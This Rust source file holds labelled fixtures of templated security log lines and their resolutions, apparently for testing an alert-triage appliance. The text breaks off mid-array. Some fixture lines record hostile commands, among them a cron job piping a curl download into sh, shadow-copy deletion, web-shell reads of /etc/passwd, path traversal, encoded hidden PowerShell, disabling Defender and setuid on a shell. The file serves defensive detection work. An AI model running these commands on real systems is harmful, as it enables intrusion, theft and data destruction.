//! Small stories with a known end: what an appliance would show of them, and how they ended.
//!
//! The halves were fixed before the rules were written: what stands in `BUILT_ON` was looked at while
//! building, `HELD_BACK` comes from other products with other words. Titles and classes say nothing of
//! the end; only the lines do.

use vedette_event::ResolutionCode::{
    self, BenignExpected as Expected, BenignMisconfiguration as Faulty, NeedsHuman as Human,
    TruePositiveActionNeeded as Act, TruePositiveContained as Contained,
};
use vedette_event::ThreatClass::{
    self, BruteForce, CommandAndControl, DefenseEvasion, DenialOfService, Exfiltration,
    Exploitation, LateralMovement, Malware, Persistence, Phishing, PolicyViolation,
    PrivilegeEscalation, Ransomware, Reconnaissance, WebAttack,
};

/// How it ended, its class, and its lines, with open places in braces.
pub(crate) type Story = (ResolutionCode, ThreatClass, &'static [&'static str]);

/// Looked at while the rules were written.
pub(crate) const BUILT_ON: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "<4>{host} kernel: [81.2] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=22",
            "<4>{host} kernel: [81.9] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=23",
            "<4>{host} kernel: [82.4] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lan} PROTO=TCP DPT=445",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "[error] [client {ip}] ModSecurity: Access denied with code 403 (phase 2). Matched SQLi at ARGS:id [uri \"/item\"]",
            "[error] [client {ip}] ModSecurity: Access denied with code 403 (phase 2). Matched SQLi at ARGS:q [uri \"/find\"]",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"EventID\":1116,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Trojan:Win32/Sample\",\"User\":\"{user}\"}",
            "{\"EventID\":1117,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Trojan:Win32/Sample\",\"ActionName\":\"Quarantine\",\"ErrorDescription\":\"The operation completed successfully.\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "<38>{host} sshd[811]: Failed password for root from {ip} port 4011 ssh2",
            "<38>{host} sshd[813]: Failed password for root from {ip} port 4012 ssh2",
            "<38>{host} sshd[815]: Failed password for root from {ip} port 4013 ssh2",
            "{host} fail2ban.actions[99]: NOTICE [sshd] Ban {ip}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} amavis[301]: (301-04) Blocked SPAM {DiscardedInbound,Quarantined}, <billing@{domain}> -> <{user}@example.com>, quarantine: spam-a1",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{host} dnsmasq[40]: query[A] a1.{domain} from {lan}",
            "{host} dnsmasq[40]: gravity blocked a1.{domain} is 0.0.0.0",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{\"event_type\":\"alert\",\"src_ip\":\"{ip}\",\"dest_ip\":\"{lan}\",\"alert\":{\"action\":\"blocked\",\"signature\":\"EXPLOIT inbound attempt\"}}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "<38>{host} sshd[811]: Failed password for {user} from {ip} port 4011 ssh2",
            "<38>{host} sshd[813]: Failed password for {user} from {ip} port 4012 ssh2",
            "<38>{host} sshd[815]: Accepted password for {user} from {ip} port 4013 ssh2",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - \"POST /uploads/a1.php HTTP/1.1\" 200 312 \"-\" \"curl/8.1\"",
            "{\"EventID\":1,\"Computer\":\"{host}\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\inetsrv\\\\w3wp.exe\",\"Image\":\"cmd.exe\",\"CommandLine\":\"cmd /c whoami\"}",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{\"EventID\":4688,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"NewProcessName\":\"vssadmin.exe\",\"CommandLine\":\"vssadmin delete shadows /all /quiet\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "date=2026-11-02 devname=\"fw\" type=\"traffic\" srcip={lan} dstip={ip} action=\"accept\" sentbyte=4812290011",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":7045,\"Computer\":\"{host}\",\"ServiceName\":\"kdlqzx\",\"ImagePath\":\"C:\\\\Windows\\\\Temp\\\\kdlqzx.exe\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"EventID\":1116,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ThreatName\":\"Backdoor:Win32/Sample\"}",
            "{\"EventID\":1118,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"ActionName\":\"Remove\",\"ErrorDescription\":\"Access is denied. The action failed.\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} filterlog[9]: 76,,,1000,igb1,match,pass,out,4,0x0,,64,9,0,DF,6,tcp,60,{lan},{ip},50211,8443",
            "{host} filterlog[9]: 76,,,1000,igb1,match,pass,out,4,0x0,,64,9,0,DF,6,tcp,60,{lan},{ip},50212,8443",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &["<85>{host} sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"LogonType\":\"3\",\"IpAddress\":\"{lan}\",\"AuthenticationPackageName\":\"NTLM\"}",
            "{\"EventID\":7045,\"Computer\":\"{host}\",\"ServiceName\":\"PSEXESVC\",\"ImagePath\":\"%SystemRoot%\\\\PSEXESVC.exe\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - \"GET /.git/config HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 Nessus\"",
            "{lan} - - \"GET /server-status HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 Nessus\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &[
            "{host} veeamagent: Job Nightly: backup to repository {lan} started",
            "{host} veeamagent: Job Nightly: backup finished successfully, 212 GB transferred",
        ],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "<38>{host} sshd[77]: Accepted publickey for ansible from {lan} port 5512 ssh2: ED25519 SHA256:k3",
            "<85>{host} sudo: ansible : TTY=pts/0 ; PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-x",
        ],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":5007,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"NewValue\":\"SignatureUpdate\\\\EngineVersion\"}",
            "{\"EventID\":2000,\"Channel\":\"Microsoft-Windows-Windows Defender/Operational\",\"Computer\":\"{host}\",\"Message\":\"signature version has been updated\"}",
        ],
    ),
    (
        Expected,
        BruteForce,
        &[
            "<38>{host} sshd[61]: Connection closed by {lan} port 50311 [preauth]",
            "{host} nagios: SERVICE ALERT: {host};ssh;OK;HARD;1;SSH OK - check_ssh from {lan}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-backup\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000071\",\"FailureReason\":\"password has expired\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-backup\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000071\",\"FailureReason\":\"password has expired\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
            "{host} dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<{user}>, method=PLAIN, rip={lan}",
        ],
    ),
    (
        Faulty,
        DenialOfService,
        &[
            "<4>{host} kernel: nf_conntrack: table full, dropping packet",
            "<4>{host} kernel: nf_conntrack: table full, dropping packet",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &[
            "{host} stunnel: SSL_connect to update.example.com: certificate has expired",
            "{host} stunnel: retrying connection in 60 s",
        ],
    ),
    (
        Faulty,
        Reconnaissance,
        &[
            "{host} snmpd[12]: Authentication failed for {lan}: incorrect community name",
            "{host} snmpd[12]: Authentication failed for {lan}: incorrect community name",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "<38>{host} sshd[77]: Accepted publickey for {user} from {ip} port 5512 ssh2: ED25519 SHA256:k3",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} squid: 812 {lan} TCP_MISS/200 80211 GET http://files.{domain}/report.zip {user}"],
    ),
    (
        Human,
        Persistence,
        &[
            "{\"EventID\":4720,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"b.new\"}",
        ],
    ),
];

/// Not looked at until the rules stood.
pub(crate) const HELD_BACK: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "date=2026-11-03 devname=\"edge\" type=\"traffic\" srcip={ip} dstip={lan} dstport=3389 action=\"deny\" policyid=0",
            "date=2026-11-03 devname=\"edge\" type=\"traffic\" srcip={ip} dstip={lan} dstport=445 action=\"deny\" policyid=0",
        ],
    ),
    (
        Contained,
        Reconnaissance,
        &[
            "<164>Nov 03 2026 asa : %ASA-4-106023: Deny tcp src outside:{ip}/4412 dst inside:{lan}/23 by access-group \"in\"",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{\"Action\":\"block\",\"ClientIP\":\"{ip}\",\"ClientRequestPath\":\"/wp-admin/install.php\",\"Source\":\"firewallManaged\",\"Description\":\"XSS\"}",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} nginx: [error] 31#0: *7 access forbidden by rule, client: {ip}, server: www, request: \"GET /.env HTTP/1.1\"",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{host} clamd[71]: /srv/upload/a.doc: Doc.Dropper FOUND",
            "{host} clamonacc: /srv/upload/a.doc: moved to '/var/quarantine/a.doc'",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"3\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"3\"}",
            "{\"EventID\":4740,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"Message\":\"A user account was locked out.\"}",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"product\":\"endpoint\",\"type\":\"Event::Endpoint::Threat::CleanedUp\",\"threat\":\"Mal/Gen-A\",\"endpoint\":\"{host}\",\"user\":\"{user}\"}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{host} postfix/smtpd[88]: NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 Service unavailable; client blocked; from=<a@{domain}> to=<{user}@example.com>",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} snort[5]: [Drop] [**] [1:5500:2] SERVER exploit attempt [**] {TCP} {ip}:5011 -> {lan}:443",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"EventID\":8004,\"Channel\":\"Microsoft-Windows-AppLocker/EXE and DLL\",\"Computer\":\"{host}\",\"User\":\"{user}\",\"Message\":\"%OSDRIVE%\\\\TMP\\\\A.EXE was prevented from running.\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{host} named[4]: client {lan}#5011: rpz QNAME NXDOMAIN rewrite c1.{domain} via c1.{domain}.rpz",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{ip}\",\"LogonType\":\"10\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} openvpn[5]: {ip}:4011 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[5]: {ip}:4013 TLS Auth Error: Auth Username/Password verification failed for peer",
            "{host} openvpn[5]: {ip}:4015 TLS: Username/Password authentication succeeded for username '{user}'",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [03/Nov/2026:02:11:04 +0000] \"GET /images/s.jsp?cmd=id HTTP/1.1\" 200 57 \"-\" \"python-requests/2.31\"",
            "{ip} - - [03/Nov/2026:02:11:09 +0000] \"GET /images/s.jsp?cmd=cat+/etc/passwd HTTP/1.1\" 200 1822 \"-\" \"python-requests/2.31\"",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":4698,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TaskName\":\"\\\\Updater\",\"TaskContent\":\"powershell -w hidden -enc SQBFAFgA\"}",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} smbd_audit: {user}|{lan}|rename|ok|/share/plan.xlsx|/share/plan.xlsx.locked",
            "{host} smbd_audit: {user}|{lan}|rename|ok|/share/list.docx|/share/list.docx.locked",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{\"EventID\":1,\"Computer\":\"{host}\",\"User\":\"{user}\",\"Image\":\"rclone.exe\",\"CommandLine\":\"rclone copy D:\\\\Finance remote:drop --transfers 16\"}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4728,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"Domain Admins\",\"MemberName\":\"CN=helper2\"}",
            "{\"EventID\":4672,\"Computer\":\"{host}\",\"SubjectUserName\":\"helper2\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "{\"product\":\"av\",\"event\":\"Threat_Event\",\"hostname\":\"{host}\",\"threat_name\":\"Win32/Agent.A\",\"action_taken\":\"unable to clean\",\"username\":\"{user}\"}",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{host} squid: 61 {lan} TCP_TUNNEL/200 3911 CONNECT c1.{domain}:443 - HIER_DIRECT/{ip}",
            "{host} squid: 61 {lan} TCP_TUNNEL/200 3909 CONNECT c1.{domain}:443 - HIER_DIRECT/{ip}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":1102,\"Channel\":\"Security\",\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"Message\":\"The audit log was cleared.\"}",
        ],
    ),
    (
        Act,
        Phishing,
        &[
            "{\"Workload\":\"Exchange\",\"Operation\":\"New-InboxRule\",\"UserId\":\"{user}@example.com\",\"ClientIP\":\"{ip}\",\"Parameters\":\"ForwardTo x@{domain}; DeleteMessage True\"}",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [03/Nov/2026:01:00:04 +0000] \"GET /phpinfo.php HTTP/1.1\" 404 153 \"-\" \"Qualys WAS scanner\"",
            "{lan} - - [03/Nov/2026:01:00:05 +0000] \"GET /admin/ HTTP/1.1\" 404 153 \"-\" \"Qualys WAS scanner\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} restic[7]: backup of /srv to sftp:{lan}: snapshot 8a1f saved, 41.2 GiB added"],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} puppet-agent[44]: Applied catalog in 12.10 seconds",
            "<38>{host} sshd[79]: Accepted publickey for deploy from {lan} port 5522 ssh2: ED25519 SHA256:p9",
        ],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":19,\"Channel\":\"System\",\"Provider\":\"Microsoft-Windows-WindowsUpdateClient\",\"Computer\":\"{host}\",\"Message\":\"Installation Successful: Windows successfully installed the following update: KB5031356\"}",
        ],
    ),
    (
        Expected,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4662,\"Computer\":\"{host}\",\"SubjectUserName\":\"MSOL_8a1f22\",\"Properties\":\"1131f6aa-9c07-11d1-f79f-00c04fc2d2dc\",\"Message\":\"directory synchronization by Azure AD Connect\"}",
        ],
    ),
    (
        Expected,
        DenialOfService,
        &[
            "{lan} - - [03/Nov/2026:01:00:04 +0000] \"GET /health HTTP/1.1\" 200 2 \"-\" \"ELB-HealthChecker/2.0\"",
            "{lan} - - [03/Nov/2026:01:00:05 +0000] \"GET /health HTTP/1.1\" 200 2 \"-\" \"ELB-HealthChecker/2.0\"",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} slapd[10]: conn=1011 op=0 BIND dn=\"cn=wiki,dc=example\" method=128 from {lan}",
            "{host} slapd[10]: conn=1011 op=0 RESULT tag=97 err=49 text=invalid credentials for service account",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4771,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"::ffff:{lan}\",\"Status\":\"0x25\",\"Message\":\"clock skew too great\"}",
            "{\"EventID\":4771,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"::ffff:{lan}\",\"Status\":\"0x25\",\"Message\":\"clock skew too great\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} radiusd[3]: Received packet from {lan} with invalid Message-Authenticator! (Shared secret is incorrect.)",
            "{host} radiusd[3]: Received packet from {lan} with invalid Message-Authenticator! (Shared secret is incorrect.)",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC000006A\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}",
        ],
    ),
    (
        Faulty,
        DenialOfService,
        &[
            "{host} haproxy[2]: Server app/web1 is DOWN, reason: Layer4 timeout, check duration: 2001ms",
            "{host} haproxy[2]: backend app has no server available!",
        ],
    ),
    (
        Faulty,
        CommandAndControl,
        &[
            "{host} rsyslogd: cannot resolve hostname 'old-collector.example.com': Name or service not known",
            "{host} rsyslogd: action 'fwd' suspended, retry in 30 seconds",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "{\"EventID\":4624,\"Computer\":\"{host}\",\"TargetUserName\":\"{user}\",\"LogonType\":\"10\",\"IpAddress\":\"{ip}\"}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &["{host} charon: 09[IKE] peer {ip} authenticated as '{user}' with EAP successful"],
    ),
    (
        Human,
        Persistence,
        &[
            "{host} useradd[911]: new user: name=c.new, UID=1044, GID=1044, home=/home/c.new, shell=/bin/bash",
        ],
    ),
];

/// Written after the rules, from other products again; see the documentation for what was measured first.
pub(crate) const WRITTEN_AFTER: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "1,2026/11/04 02:11:04,007,TRAFFIC,drop,2561,{ip},{lan},0.0.0.0,0.0.0.0,intrazone-default,,,not-applicable,vsys1,untrust,trust,reset-both",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} ASM:attack_type=\"SQL-Injection\",ip_client=\"{ip}\",request_status=\"blocked\",uri=\"/login\"",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "SEP: Virus found,IP Address: {lan},Computer name: {host},Risk name: Trojan.Gen,Actual action: Cleaned by deletion,Requested action: Cleaned",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"event_simpleName\":\"DetectionSummary\",\"ComputerName\":\"{host}\",\"UserName\":\"{user}\",\"PatternDispositionDescription\":\"Prevention, process was blocked from execution.\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} sshd[31]: Invalid user oracle from {ip} port 5101",
            "{host} sshd[33]: Invalid user test from {ip} port 5102",
            "{host} sshguard[8]: Blocking \"{ip}/32\" for 120 secs (3 attacks in 41 secs)",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"Workload\":\"ThreatIntelligence\",\"Operation\":\"AirInvestigationData\",\"DeliveryAction\":\"Blocked\",\"Verdict\":\"Phish\",\"Recipients\":\"{user}@example.com\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &["{host} unbound: [77:0] info: c3.{domain}. always_nxdomain {lan}@5011 c3.{domain}. A IN"],
    ),
    (
        Contained,
        Exploitation,
        &[
            "id=firewall sn=00A sev=1 msg=\"IPS Prevention Alert: WEB-ATTACKS exploit\" src={ip}:4411 dst={lan}:443 note=\"dropped\"",
        ],
    ),
    (
        Contained,
        Exfiltration,
        &[
            "{\"product\":\"dlp\",\"policy\":\"customer data\",\"user\":\"{user}\",\"host\":\"{host}\",\"outcome\":\"upload prevented\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} vsftpd[9]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} vsftpd[9]: [{user}] OK LOGIN: Client \"{ip}\"",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{host} php-fpm[3]: WARNING: child said: sh: 1: nc: connection to {ip} opened from /var/www/tmp/x.php",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{\"EventID\":11,\"Computer\":\"{host}\",\"Image\":\"C:\\\\Users\\\\Public\\\\u.exe\",\"TargetFilename\":\"C:\\\\Share\\\\HOW_TO_DECRYPT.txt\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "SEP: Virus found,IP Address: {lan},Computer name: {host},Risk name: Trojan.Gen,Actual action: Left alone,Requested action: Cleaned",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{\"event_type\":\"alert\",\"src_ip\":\"{lan}\",\"dest_ip\":\"{ip}\",\"alert\":{\"action\":\"allowed\",\"signature\":\"MALWARE CnC checkin\"}}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{host} audit[5]: USER_CMD pid=911 uid=33 auid=33 ses=4 msg='cwd=\"/tmp\" cmd=\"chmod u+s /bin/dash\" res=success'",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{host} crontab[77]: (www-data) REPLACE (www-data)",
            "{host} CRON[79]: (www-data) CMD (curl -s http://{domain}/k | sh)",
        ],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4648,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"administrator\",\"TargetServerName\":\"dc1\"}",
            "{\"EventID\":5145,\"Computer\":\"dc1\",\"SubjectUserName\":\"administrator\",\"ShareName\":\"ADMIN$\",\"IpAddress\":\"{lan}\"}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":1,\"Computer\":\"{host}\",\"User\":\"{user}\",\"CommandLine\":\"Set-MpPreference -DisableRealtimeMonitoring $true\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "id=firewall sn=00A msg=\"Connection Closed\" src={lan}:5011 dst={ip}:21 proto=tcp/ftp sent=911822110 rcvd=4100",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [04/Nov/2026:01:00:04 +0000] \"GET /manager/html HTTP/1.1\" 404 153 \"-\" \"Acunetix-Product\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &[
            "{host} borg[7]: Creating archive at \"ssh://{lan}/repo::nightly\", Duration: 8 minutes, terminating with success status",
        ],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} WinRM: session by sccm-svc from {lan}: software deployment package 7zip completed",
        ],
    ),
    (
        Expected,
        Persistence,
        &["{host} dpkg: status installed cron:amd64 3.0pl1-137 by unattended-upgrades"],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":1036,\"Channel\":\"Application\",\"Provider\":\"MsiInstaller\",\"Computer\":\"{host}\",\"Message\":\"endpoint agent update completed by the management server\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} smbd[4]: check_ntlm_password: Authentication for user [scan-to-folder] FAILED with error NT_STATUS_PASSWORD_EXPIRED from {lan}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} winbindd[2]: kinit failed: Preauthentication failed: keytab is out of date, host {lan}",
        ],
    ),
    (Faulty, DenialOfService, &["{host} kernel: Out of memory: Killed process 811 (mysqld)"]),
    (
        Faulty,
        CommandAndControl,
        &["{host} ntpd[3]: no server suitable for synchronization found, {lan} unreachable"],
    ),
    (Faulty, Reconnaissance, &["{host} dhcpd: DHCPDECLINE of {lan}: duplicate address detected"]),
    (
        Human,
        LateralMovement,
        &[
            "{host} sshd[71]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &[
            "{host} proxy: user={user} src={lan} category=\"file sharing\" host=files.{domain} action=allowed bytes=911200",
        ],
    ),
    (
        Human,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4672,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"PrivilegeList\":\"SeBackupPrivilege\"}",
        ],
    ),
];

/// Written after the rules were made to speak of words and no longer of products.
pub(crate) const FRESH: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "{host} firewall,info input: in:ether1 out:(unknown), connection-state:new proto TCP (SYN), {ip}:5011->{lan}:8291, dropped",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "CEF:0|Imperva|SecureSphere|14|Custom|SQL injection|High|act=Block src={ip} dst={lan} request=/a?id\\=1",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "CEF:0|Trend Micro|Apex One|14|AV|Malware detected|8|cs1Label=VLF_FirstActionResult cs1=File quarantined shost={host} suser={user}",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"type\":\"CB_ANALYTICS\",\"device_name\":\"{host}\",\"device_username\":\"{user}\",\"sensor_action\":\"TERMINATE\",\"reason\":\"The application was terminated by policy\"}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"datatype\":\"receipt\",\"Act\":\"Rej\",\"Sender\":\"a@{domain}\",\"Rcpt\":\"{user}@example.com\",\"RejType\":\"Malware\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"action\":\"Blocked\",\"identity\":\"{host}\",\"internalIp\":\"{lan}\",\"domain\":\"c9.{domain}\",\"categories\":\"Command and Control\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} synolog: User [{user}] from [{ip}] failed to log in via [DSM] due to authorization failure.",
            "{host} synolog: Host [{ip}] was blocked via [DSM].",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} SFIMS: Protocol: TCP, SrcIP: {ip}, DstIP: {lan}, IngressZone: outside, InlineResult: Blocked, Message: SERVER-WEBAPP attempt",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{\"eventType\":\"user.session.start\",\"outcome\":{\"result\":\"FAILURE\"},\"actor\":\"{user}\",\"ip\":\"{ip}\"}",
            "{\"eventType\":\"user.session.start\",\"outcome\":{\"result\":\"SUCCESS\"},\"actor\":\"{user}\",\"ip\":\"{ip}\"}",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [05/Nov/2026:02:11:04 +0000] \"GET /download?f=../../../../etc/passwd HTTP/1.1\" 200 1822 \"-\" \"curl/8\"",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} qlogd: Users: {user}, Source IP: {lan}, Accessed resources: Share/a.docx -> Share/a.docx.crypt, Action: Rename",
        ],
    ),
    (
        Act,
        Malware,
        &["{host} kav: Object detected: HEUR:Trojan.Script, result: not disinfected, user: {user}"],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "1,2026/11/04 02:11:04,007,THREAT,spyware,2561,{lan},{ip},0.0.0.0,0.0.0.0,allow-out,,,web-browsing,vsys1,trust,untrust,alert",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":13,\"Computer\":\"{host}\",\"TargetObject\":\"HKU\\\\S-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd\",\"Details\":\"C:\\\\Users\\\\Public\\\\upd.exe\"}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{\"eventName\":\"AttachUserPolicy\",\"userIdentity\":{\"userName\":\"{user}\"},\"sourceIPAddress\":\"{ip}\",\"requestParameters\":{\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"eventName\":\"StopLogging\",\"userIdentity\":{\"userName\":\"{user}\"},\"sourceIPAddress\":\"{ip}\"}",
        ],
    ),
    (
        Act,
        LateralMovement,
        &[
